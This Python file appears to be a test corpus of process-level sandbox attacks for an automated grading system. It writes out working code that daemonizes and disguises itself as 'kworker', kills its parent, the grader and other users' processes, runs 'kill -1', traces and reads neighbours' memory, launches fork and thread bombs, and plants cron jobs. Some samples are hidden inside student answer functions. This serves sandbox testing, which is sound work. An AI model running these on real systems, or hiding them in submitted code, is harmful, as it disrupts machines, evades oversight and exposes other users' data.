"""Processes that live on, are killed, watched, traced, starved or multiplied."""

# ruff: noqa: E501  (the lines of attackers are as long as they are)

from functools import partial

from attacks.corpus import code

code = partial(code, theme="processes")

STEP = "def step_forward(x, h_prev, W, U, b):\n    {}\n    return 0 * h_prev"

LIVE_ON = """
def live_on():
    mark_process()
    os.setsid()
    for _ in range(600):
        time.sleep(0.2)
        for place in KNOWN['drops']:
            try:
                open(place + '/still-here', 'w').write('x')
            except OSError:
                pass
    os._exit(0)
"""

code(
    "daemon-by-two-forks",
    "forks twice, leaves the session and goes on in the background",
    LIVE_ON + "if os.fork() == 0:\n    if os.fork() == 0:\n        live_on()\n    os._exit(0)\n",
    honest=["softsign"],
)
code(
    "daemon-when-asked",
    "the same, from inside an answer, with every signal ignored",
    LIVE_ON,
    answers={
        "step-forward": STEP.format(
            "import signal\n    if os.fork() == 0:\n        for n in range(1, 32):\n"
            "            if n not in (9, 19):\n                signal.signal(n, signal.SIG_IGN)\n        live_on()"
        )
    },
    honest=["softsign"],
)
code(
    "program-in-the-background",
    "starts programs with nohup and setsid that outlive it",
    """
import subprocess
for command in (['nohup', 'setsid', 'sleep', '7301'], ['setsid', 'sh', '-c', 'exec -a kworker sleep 7301'], ['sleep', '7301']):
    try:
        subprocess.Popen(command, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    except OSError as error:
        print(error)
""",
    honest=["softsign"],
)
code(
    "child-holds-the-kernels-sockets",
    "a child that keeps all of the kernel's descriptors open after the kernel has gone",
    "if os.fork() == 0:\n    mark_process()\n    os.setsid()\n    time.sleep(7200)\n    os._exit(0)\n",
    answers={"moving-average": "def moving_average(x, decay):\n    os._exit(0)"},
    honest=["softsign"],
)
code(
    "kills-its-parent",
    "kills, stops and interrupts the process that started it, and that one's parents",
    """
pid = os.getppid()
for _ in range(2):
    if pid <= 1:
        break
    for number in (19, 2, 15, 9):
        try:
            os.kill(pid, number)
        except OSError as error:
            print(type(error).__name__)
    try:
        pid = int(open(f'/proc/{pid}/stat').read().rsplit(')', 1)[1].split()[1])
    except OSError:
        break
""",
    honest=["softsign"],
    unsafe="kills the grading process and its parents",
)
code(
    "kills-a-stranger",
    "kills a process of the machine's owner that it knows by number",
    """
for number in (19, 15, 9):
    try:
        os.kill(KNOWN['victim'], number)
        leaked('signal %d to a stranger' % number)
    except OSError as error:
        print(type(error).__name__)
try:
    import signal
    signal.pidfd_send_signal(os.pidfd_open(KNOWN['victim']), 19)
    leaked('signal to a stranger by pidfd')
except OSError:
    pass
""",
    honest=["softsign"],
    unsafe="number of the process is another one in the sacrificial namespace",
)
code(
    "kills-the-examiner",
    "asks its sockets who is at their other end, and kills and stops those processes",
    """
import socket, struct
def kill():
    for fd in range(3, 512):
        try:
            s = socket.socket(fileno=os.dup(fd))
            pid = struct.unpack('3i', s.getsockopt(socket.SOL_SOCKET, 17, 12))[0]
        except OSError:
            continue
        if pid not in (0, os.getpid()):
            for number in (19, 9):
                try:
                    os.kill(pid, number)
                    leaked('signal to %d at the other end of a socket' % pid)
                except OSError as error:
                    print(type(error).__name__)
""",
    answers={"step-forward": STEP.format("kill()")},
    honest=["softsign"],
    unsafe="kills processes that it does not own",
)
code(
    "kills-everybody",
    "kill -1 and the process group, with TERM and KILL, from a child",
    """
if os.fork() == 0:
    for number in (15, 9):
        for whom in (0, -1):
            try: os.kill(whom, number)
            except OSError: pass
    os._exit(0)
time.sleep(0.3)
""",
    honest=["softsign"],
    spared=["softsign"],
    unsafe="kill -1 as root",
)
code(
    "sees-its-neighbours",
    "lists processes that are not its own: command lines, open files, working directories",
    """
own = os.getpid()
for pid in filter(str.isdigit, os.listdir('/proc')):
    try:
        line = open(f'/proc/{pid}/cmdline', 'rb').read()
    except OSError:
        continue
    if int(pid) == KNOWN['victim'] and b'unrolled' in line:
        leaked('command line of ' + pid)
    if b'nbgrader' in line or b'grade' in line.split(b'\\0'):
        leaked('the grader, ' + repr(line))
    for what in ('cwd', 'fd/0', 'root'):
        try:
            os.stat(f'/proc/{pid}/{what}/' + 'gradebook.db')
            leaked('gradebook through /proc')
        except OSError:
            pass
""",
    honest=["softsign"],
    not_stopped={
        "contained": "Landlock does not hide /proc, so command lines can be read",
        "limited": "nothing is hidden in this tier",
    },
)
code(
    "traces-its-parent",
    "attaches to its parent and siblings: ptrace, process_vm_readv, /proc/PID/mem, kcmp, pidfd_getfd",
    """
libc = ctypes.CDLL(None, use_errno=True)
for pid in {os.getppid(), KNOWN['victim']} - {0, 1, os.getpid()}:
    if libc.ptrace(16, pid, None, None) == 0:
        leaked('ptrace of %d' % pid)
        libc.ptrace(17, pid, None, None)
    buffer = ctypes.create_string_buffer(8)
    class IoVec(ctypes.Structure):
        _fields_ = [('base', ctypes.c_void_p), ('length', ctypes.c_size_t)]
    try:
        start = int(open(f'/proc/{pid}/maps').readline().split('-')[0], 16)
        there, here = IoVec(start, 8), IoVec(ctypes.addressof(buffer), 8)
        if libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
            leaked('memory of %d' % pid)
        open(f'/proc/{pid}/mem', 'r+b').close()
        leaked('memory file of %d' % pid)
    except (OSError, ValueError) as error:
        print(type(error).__name__)
""",
    honest=["softsign"],
    not_stopped={"limited": "processes of one user may look into each other in this tier"},
)
code(
    "starves-its-neighbours",
    "lowers limits and priorities of others, pins them to one core, raises its own",
    """
import resource
for pid in (os.getppid(), KNOWN['victim']):
    for act in (lambda: os.setpriority(os.PRIO_PROCESS, pid, 19), lambda: os.sched_setaffinity(pid, {0}),
                lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (3, 3))):
        try:
            act()
            if pid == KNOWN['victim']:
                leaked('limits of a stranger')
        except OSError as error:
            print(type(error).__name__)
for which in (resource.RLIMIT_CPU, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE, resource.RLIMIT_AS):
    try:
        resource.setrlimit(which, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    except (OSError, ValueError):
        pass
try:
    os.nice(-20)
except OSError:
    pass
""",
    honest=["softsign"],
    unsafe="changes limits of processes that it does not own",
)
BOMB = """
def bomb():
    mark_process()
    for generation in range(12):
        try:
            os.fork()
        except OSError:
            time.sleep(0.05)
    try:
        number = sum(open(f'/proc/{p}/comm').read().strip() == KNOWN['mark'] for p in os.listdir('/proc') if p.isdigit())
    except OSError:
        number = 0
    if number > 1500:
        leaked('%d processes' % number)
    time.sleep(30)
"""
# Twelve times two: four thousand processes, and no more, wherever this is tried.
code(
    "fork-bomb",
    "forks, and lets every child fork, until there are thousands",
    BOMB,
    answers={"step-forward": STEP.format("bomb()")},
    honest=["softsign"],
    unsafe="fork bomb",
)
code(
    "fork-bomb-with-exec",
    "a shell that calls itself twice, down to a depth of ten, while its cell has long returned",
    "import subprocess\nscript = 'f() { [ $1 -gt 10 ] && exec sleep 7301; f $(($1+1)) & f $(($1+1)) & wait; }; f 0'\n"
    "try:\n    subprocess.Popen(['bash', '-c', script], start_new_session=True, stdout=-3, stderr=-3)\n"
    "except OSError as error:\n    print(error)\n",
    honest=["softsign"],
    spared=["softsign"],
    unsafe="fork bomb",
)
code(
    "threads-without-end",
    "starts threads until no more can be started, or there are five thousand",
    answers={
        "step-forward": STEP.format(
            "for n in range(5000):\n        threading.Thread(target=time.sleep, args=(3600,), daemon=False).start()\n    leaked('5000 threads')"
        )
    },
    honest=["softsign"],
    unsafe="takes all threads of this machine",
)
code(
    "signals-by-fcntl",
    "has the system send signals for it: F_SETOWN and F_SETSIG on a pipe, with KILL for its parent and a stranger",
    """
import fcntl
for pid in {KNOWN['victim'], os.getppid()} - {0, 1}:
    for number in (19, 9):
        reading, writing = os.pipe()
        try:
            fcntl.fcntl(reading, fcntl.F_SETOWN, pid)
            fcntl.fcntl(reading, 10, number)
            fcntl.fcntl(reading, fcntl.F_SETFL, fcntl.fcntl(reading, fcntl.F_GETFL) | os.O_ASYNC | os.O_NONBLOCK)
            os.write(writing, b'x')
        except OSError as error:
            print(error)
""",
    honest=["softsign"],
    not_stopped={"limited": "processes of one user may send signals to each other in this tier"},
    unsafe="kills its parent",
)
code(
    "zombies",
    "leaves two hundred children that have ended and are never waited for",
    "for _ in range(200):\n    try:\n        if os.fork() == 0:\n            os._exit(0)\n    except OSError:\n        break\n",
    honest=["softsign"],
)
code(
    "other-peoples-rights",
    "asks set-user-id programs, cron, at and systemd to do things later or with other rights",
    """
import subprocess
line = '* * * * * touch ' + KNOWN['drops'][0] + '/cron'
for command in (['crontab', '-'], ['at', 'now'], ['systemd-run', '--user', 'true'], ['sudo', '-n', 'id'], ['su', '-c', 'id']):
    try:
        done = subprocess.run(command, input=line.encode(), capture_output=True, timeout=2)
        if done.returncode == 0:
            leaked(command)
    except (OSError, subprocess.TimeoutExpired) as error:
        print(type(error).__name__)
""",
    honest=["softsign"],
    unsafe="would enter a cron job",
)
